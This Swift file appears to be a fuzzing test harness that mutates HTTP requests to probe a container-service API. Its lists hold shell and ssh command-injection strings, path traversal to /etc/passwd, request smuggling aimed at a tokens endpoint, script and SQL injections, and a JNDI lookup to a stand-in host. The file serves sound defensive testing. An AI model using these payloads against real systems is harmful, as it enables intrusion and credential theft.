import TestSupport

/// One way to make a request worse.
struct AttackMutation: Sendable {
    let apply: @Sendable (inout AttackDraft, AttackStage, inout SeededGenerator) -> Void

    static let all =
        paths + queries + methods + headers + framings
        // Bodies have the most to go wrong.
        + bodies + bodies

    /// Changes the text at a random place.
    private static func insert(_ piece: String, into text: inout String, _ random: inout SeededGenerator) {
        var scalars = Array(text.unicodeScalars)
        scalars.insert(contentsOf: piece.unicodeScalars, at: Int.random(in: 0...scalars.count, using: &random))
        text = String(String.UnicodeScalarView(scalars))
    }

    private static func pick(_ choices: [String], _ random: inout SeededGenerator) -> String {
        choices.randomElement(using: &random) ?? ""
    }
}

// Paths, queries and methods.
extension AttackMutation {
    private static let paths = [
        AttackMutation { draft, _, random in
            insert(pick(pathPieces, &random), into: &draft.path, &random)
            draft.hasEndpoint = false
        },
        AttackMutation { draft, _, random in
            var segments = draft.path.split(separator: "/").map(String.init)
            guard let index = segments.indices.randomElement(using: &random) else { return }
            segments[index] = pick(names, &random)
            draft.path = "/" + segments.joined(separator: "/")
            draft.hasEndpoint = false
        },
        AttackMutation { draft, stage, random in
            draft.path = pick(
                [
                    "*", "http://evil.example" + draft.path, "http://127.0.0.1:\(stage.port)" + draft.path,
                    "//" + draft.path, "x",
                ],
                &random
            )
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
        AttackMutation { draft, _, random in
            // A line cannot have these.
            insert(
                pick(["\u{0}", " ", "\t", "\r", "\n", "\u{7F}", "é", "\u{202E}"], &random),
                into: &draft.path,
                &random
            )
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
        AttackMutation { draft, _, _ in
            draft.path += "/" + String(repeating: "a", count: 20_000)
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
    ]

    private static let pathPieces = [
        "%2f", "%2F..%2F..%2F", "/..", "/../", "/./", "//", "%00", "%", "%zz", "%c0%ae", "%e9", "%F0%9F%9A%A2", ";a=b",
        "\\", "..%5c", "#", "*", "%0d%0aX-Injected:%201", "%0aX-Injected:%201", "%1b%5b2J", "%3Cscript%3E",
        "%252e%252e",
        "/containers/json", "/v1.41/containers/json", "?", "&", "/%2e%2e/%2e%2e/etc/passwd",
    ]

    private static let names = [
        String(repeating: "0a", count: 32), "sha256:" + String(repeating: "0a", count: 32), "0", "-1", "null", "..",
        ".",
        "%2e%2e", "%2e", "a", "A", "own-", "-own", "run", "containers", "prune", "json", "9223372036854775808", "1e9",
        "$(id)", "`id`", "%27%3b--", "own-web%20", "%20", "own-web%00", "OWN-WEB", "xn--80ak6aa92e", "%e2%80%ae",
        "constructor", "__proto__", "{app}", "%7Bapp%7D",
    ]

    private static let queries = [
        AttackMutation { draft, _, random in
            draft.query += (draft.query.isEmpty ? "" : "&") + pick(parameters, &random)
            if draft.query.contains("\u{0}") { draft.isFramed = false }
        },
        AttackMutation { draft, _, random in
            draft.query = (0..<2).map { _ in pick(parameters, &random) }.joined(separator: "&") + "&" + draft.query
        },
        AttackMutation { draft, _, _ in
            draft.query += "&x=" + String(repeating: "a", count: 30_000)
            draft.isFramed = false
            draft.hasEndpoint = false
        },
    ]

    private static let parameters = [
        "limit=1", "limit=1&limit=2", "limit=0", "limit=99999999999999999999", "limit=-1", "limit=", "limit",
        "cursor=a",
        "cursor=%00", "cursor=1-aaaaaaaaaaaaaaaaaaaaaaaaaa", "force", "force=maybe", "force=false", "follow=true",
        "tail=99999999999", "tail=1", "since=2026-01-01T00:00:00Z", "since=-1", "until=9999-99-99T99:99:99Z",
        "timeout=0", "timeout=1e400", "for=started", "for=x", "stream=stderr", "stream=stdin", "app=own-web",
        "app=other",
        "app=%2e%2e", "host=lab", "host=-oProxyCommand%3Dx", "state=running", "state=x", "status=R", "status=%0d%0a",
        "unknown=1", "&&&", "===", "%=%", "%zz=%zz", "a[]=1", "end=true", "access_token=x", "token=x", "timestamps=yes",
        "keep=1", "%6cimit=1", "limit=%31", "run=own-web-aaaaaa",
    ]

    private static let methods = [
        AttackMutation { draft, _, random in
            draft.method = pick(["HEAD", "PUT", "PATCH", "DELETE", "POST", "GET", "OPTIONS", "TRACE"], &random)
            draft.hasEndpoint = false
            // A response to HEAD has no body; whether one is there decides where the next begins.
            draft.isFramed = false
        },
        AttackMutation { draft, _, random in
            draft.method = pick(["get", "BREW", "CONNECT", "", "G E T", "LINK", "PROPFIND", "GET\u{0}"], &random)
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
    ]
}

// Headers and framing.
extension AttackMutation {
    private static let headers = [
        AttackMutation { draft, stage, random in
            // The addressed server, and the origin of the request.
            draft.headers.append(
                pick(
                    [
                        "Host: evil.example", "Host: 127.0.0.1", "Origin: https://evil.example", "Origin: null",
                        "Origin: http://127.0.0.1:1", "Origin: http://127.0.0.1:\(stage.port)", "Origin:",
                        "Referer: https://evil.example/", "Sec-Fetch-Site: cross-site",
                    ],
                    &random
                )
            )
            draft.isFramed = false
        },
        AttackMutation { draft, stage, random in
            draft.headers[0] = pick(
                [
                    "Host: evil.example", "Host: evil.example:\(stage.port)", "Host: 127.0.0.1.", "Host:",
                    "Host: [::1]:80",
                    "Host: localhost.evil.example", "Host: 127.0.0.1:\(stage.port)@evil.example", "X-No-Host: 1",
                    "Host: 127.0.0.1:99999", "Host: 127.0.0.1, evil.example", "Host: LOCALHOST",
                ],
                &random
            )
            draft.isFramed = false
            draft.hasEndpoint = false
        },
        AttackMutation { draft, _, random in
            draft.headers.append("Content-Type: " + pick(mediaTypes, &random))
            draft.isFramed = false
        },
        AttackMutation { draft, _, random in
            draft.headers.append(pick(odd, &random))
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
        AttackMutation { draft, _, _ in
            draft.headers += (0..<300).map { "X-Header-\($0): \($0)" }
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
        AttackMutation { draft, _, _ in
            draft.headers.append("X-Long: " + String(repeating: "a", count: 100_000))
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
    ]

    private static let mediaTypes = [
        "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/JSON",
        "application/json; charset=utf-16", "application/json, text/plain", "", "application/merge-patch+json", "é",
    ]

    private static let odd = [
        "X-Request-Id: a\u{202E}b", "X-Request-Id: " + String(repeating: "a", count: 500), "X-Request-Id: a%0d%0ab",
        "traceparent: 00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff", "traceparent: x",
        "Content-Encoding: gzip", "Expect: 100-continue", "Expect: x", "Range: bytes=0-", "Accept: text/event-stream",
        "Accept: application/x-ndjson", "Accept: */*;q=2", "If-Match: *", "If-Match: \"1\", W/\"x\"",
        "If-None-Match: \"",
        "Idempotency-Key: a", "Idempotency-Key: " + String(repeating: "k", count: 300), "Idempotency-Key: é",
        "Idempotency-Key: attack", "Last-Event-ID: 99999999999999999999", "Last-Event-ID: -1", "Last-Event-ID: 0",
        "Upgrade: websocket\r\nConnection: Upgrade",
        "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQ",
        "Connection: close", "Connection: keep-alive, x", "TE: trailers", "Forwarded: for=127.0.0.1",
        "X-HTTP-Method-Override: DELETE",
        "X-Original-URL: /v1/tokens", "X-Rewrite-URL: /v1/tokens", "Bad Header: x", "No-Colon", ": x", " Folded: x",
        "X-Nul: a\u{0}b",
        "X-Return: a\rb", "X-Cr\r: b", "\u{FEFF}X: y", "Authorization: Bearer x",
    ]

    private static let framings = [
        AttackMutation { draft, _, random in
            draft.framing = lengths.randomElement(using: &random)
            if draft.body == nil { draft.body = Array("{}".utf8) }
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
        AttackMutation { draft, _, random in
            let body = draft.body ?? []
            draft.framing = ["Transfer-Encoding: chunked"]
            draft.body = chunked(
                body,
                pick(["", "0\r\n\r\n", "zz\r\n", "0\r\nX-Trailer: a\r\n\r\n", "-1\r\n\r\n"], &random)
            )
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
        AttackMutation { draft, _, _ in
            draft.framing = ["Transfer-Encoding: chunked"]
            draft.body = Array("fffffffffffffffff\r\nx\r\n0\r\n\r\n".utf8)
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
        AttackMutation { draft, _, _ in
            let smuggled = "GET /v1/tokens HTTP/1.1\r\nHost: localhost\r\n\r\n"
            draft.framing = ["Content-Length: 5", "Transfer-Encoding: chunked"]
            draft.body = Array("0\r\n\r\n\(smuggled)".utf8)
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
        AttackMutation { draft, _, random in
            draft.version = pick(
                ["HTTP/1.0", "HTTP/0.9", "HTTP/2.0", "HTTP/1.2", "HTTP/1.1 ", "http/1.1", "", "HTTP/11", "ICY/1.1"],
                &random
            )
            (draft.hasEndpoint, draft.isFramed) = (false, false)
        },
    ]

    private static let lengths: [[String]] = [
        [], ["Content-Length: 0"], ["Content-Length: 1"], ["Content-Length: 99999"], ["Content-Length: -1"],
        ["Content-Length: +2"], ["Content-Length: 0x2"], ["Content-Length: 18446744073709551616"],
        ["Content-Length: 9223372036854775807"], ["Content-Length: 2", "Content-Length: 3"], ["Content-Length: 2, 2"],
        ["Content-Length: 2\u{B}"], ["Content-Length:"], ["Content-Length : 2"], ["Content-Length: 2097152"],
        ["Transfer-Encoding: gzip, chunked"], ["Transfer-Encoding: chunked, chunked"], ["Transfer-Encoding: xchunked"],
        ["Transfer-Encoding : chunked"], ["Transfer-Encoding:\u{B}chunked"], ["Transfer-Encoding: identity"],
        ["Transfer-Encoding: chunked", "Transfer-Encoding: identity"],
        ["Transfer-Encoding: chunked", "Content-Length: 2"],
    ]

    private static func chunked(_ body: [UInt8], _ end: String) -> [UInt8] {
        var bytes: [UInt8] = []
        var rest = body[...]
        while !rest.isEmpty {
            let chunk = rest.prefix(7)
            bytes += Array("\(String(chunk.count, radix: 16));x=y\r\n".utf8) + chunk + Array("\r\n".utf8)
            rest = rest.dropFirst(chunk.count)
        }
        return bytes + Array(end.utf8)
    }
}

// Bodies.
extension AttackMutation {
    private static let bodies = [
        bodyMutation { body, _, random in
            guard let place = body.indices.randomElement(using: &random) else { return }
            body[place] ^= 1 << UInt8.random(in: 0..<8, using: &random)
        },
        bodyMutation { body, _, random in
            guard let place = body.indices.randomElement(using: &random) else { return }
            body.removeSubrange(place..<min(body.count, place + Int.random(in: 1...20, using: &random)))
        },
        bodyMutation { body, stage, random in
            let piece = pick(pieces + injections(stage.canaryFile), &random)
            body.insert(contentsOf: Array(piece.utf8), at: Int.random(in: 0...body.count, using: &random))
        },
        // A value becomes an injection.
        bodyMutation { body, stage, random in
            replaceValue(in: &body, by: Array("\"\(pick(injections(stage.canaryFile), &random))\"".utf8), &random)
        },
        bodyMutation { body, _, random in replaceValue(in: &body, by: Array(pick(values, &random).utf8), &random) },
        bodyMutation { body, _, random in body.removeSubrange(Int.random(in: 0...body.count, using: &random)...) },
        // One more member, at the beginning of the object.
        bodyMutation { body, _, random in
            guard let open = body.firstIndex(of: UInt8(ascii: "{")) else { return }
            let member = pick(PrivilegedFields.members + PrivilegedFields.values + members, &random)
            body.insert(contentsOf: Array((member + (body.count > open + 2 ? "," : "")).utf8), at: open + 1)
        },
        // A member's name in other cases, or escaped.
        bodyMutation { body, _, random in
            let places = body.indices.filter { (UInt8(ascii: "a")...UInt8(ascii: "z")).contains(body[$0]) }
            if let place = places.randomElement(using: &random) { body[place] -= 32 }
        },
        bodyMutation { body, _, random in
            let depth = [31, 32, 33, 200, 10_000].randomElement(using: &random) ?? 33
            let (open, close) = Bool.random(using: &random) ? ("[", "]") : (#"{"a":"#, "}")
            body = Array((String(repeating: open, count: depth) + "1" + String(repeating: close, count: depth)).utf8)
        },
        bodyMutation { body, _, random in
            let bad: [[UInt8]] = [
                [0xFF], [0xC0, 0x80], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0xEF, 0xBB, 0xBF], [0xE9],
            ]
            body.insert(
                contentsOf: bad.randomElement(using: &random) ?? [],
                at: Int.random(in: 0...body.count, using: &random)
            )
        },
        bodyMutation { body, _, _ in body += body },
        AttackMutation { draft, _, random in
            // The server need not read it to its end.
            draft.isFramed = false
            guard Int.random(in: 0..<8, using: &random) == 0, draft.body != nil else { return }
            draft.body = Array(repeating: UInt8(ascii: " "), count: 2 << 20) + Array("{}".utf8)
        },
    ]

    private static func bodyMutation(
        _ change: @escaping @Sendable (inout [UInt8], AttackStage, inout SeededGenerator) -> Void
    ) -> AttackMutation {
        AttackMutation { draft, stage, random in
            guard var body = draft.body else { return }
            change(&body, stage, &random)
            draft.body = body
        }
    }

    /// Puts `new` in the place of a string or a number.
    private static func replaceValue(in body: inout [UInt8], by new: [UInt8], _ random: inout SeededGenerator) {
        let colons = body.indices.filter { body[$0] == UInt8(ascii: ":") }
        guard let start = colons.randomElement(using: &random).map({ $0 + 1 }) else { return }
        let end = body[start...].firstIndex { $0 == UInt8(ascii: ",") || $0 == UInt8(ascii: "}") } ?? body.endIndex
        body.replaceSubrange(start..<end, with: new)
    }

    /// Texts that a shell, ssh, a terminal, a log, a page or a header would take for more than a text.
    static func injections(_ file: String) -> [String] {
        [
            "$(touch \(file))", "`touch \(file)`", "; touch \(file) #", "| touch \(file)", "&& touch \(file)",
            "\\ntouch \(file)\\n", "-oProxyCommand=touch \(file)", "--config=\(file)", "-F\(file)", "@\(file)",
            "ssh://-oProxyCommand=touch%20\(file)/x", "ssh://a@-oProxyCommand=x", "unix://\(file)", "%h%p%r", "${HOME}",
            "$HOME", "../../../../etc/passwd", "\\r\\nX-Injected: 1", "\\u000d\\u000aX-Injected: 1",
            "\\u001b]52;c;aGk=\\u0007", "\\u001b[2J", "\\u202e", "</script><script>alert(1)</script>",
            "' OR '1'='1", "\\\"; DROP TABLE apps; --", "{{7*7}}", "${jndi:ldap://evil.example/a}", "\\u0000",
        ]
    }

    private static let pieces = [
        "\"", "\\", "{", "}", "[", "]", ":", ",", "null", "true", "-1e999", "\\ud800", "\u{0}", "\n", "🚢", "e\u{301}",
        "//", "/*", "NaN", "Infinity", "'", "0x1", "01", "1.", ".5", "\u{2028}",
    ]

    private static let values = [
        "null", "true", "false", "0", "-1", "1e400", "99999999999999999999999", "0.1", "-0", "1e-400", "\"\"", "[]",
        "{}",
        "[null]", "[[]]", "\"\(String(repeating: "a", count: 70_000))\"", "9007199254740993", "2147483648", "\"1\"",
        "[\(Array(repeating: "\"a\"", count: 2000).joined(separator: ","))]", "\"*\"", "{\"\":\"\"}", "1e18",
    ]

    private static let members = [
        #""name":"own-x","name":"own-y""#, #""image":"busybox","Image":"busybox""#, #""":1"#, #""__proto__":{}"#,
        #""role":"admin""#, #""apps":["*"]"#, #""created_by":"admin""#, #""release":1"#, #""id":"x""#,
        #""token":"berth_x""#,
        #""n\u0061me":"own-z""#, #""variables":{"BERTH_X":"1"}"#, #""host":"spare""#, #""count":100000"#,
    ]
}
